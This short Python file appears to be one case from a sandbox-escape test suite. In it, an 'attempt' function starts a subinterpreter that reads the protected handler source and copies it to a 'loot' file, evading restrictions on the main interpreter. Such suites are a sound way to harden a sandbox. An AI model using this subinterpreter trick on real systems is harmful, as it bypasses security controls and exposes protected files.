# class: handler
# rule: read_handler
# success: another interpreter reads the source
# proof: read
# when: import
import sys

from attack import HANDLER, attempt


@attempt
def steal():
    code = 'open("loot", "w").write(open(%r).read())' % HANDLER
    if sys.version_info >= (3, 13):
        import _interpreters as interpreters

        interpreters.exec(interpreters.create(), code)
    else:
        import _xxsubinterpreters as interpreters

        interpreters.run_string(interpreters.create(), code)
    with open("loot") as opened:
        return opened.read()
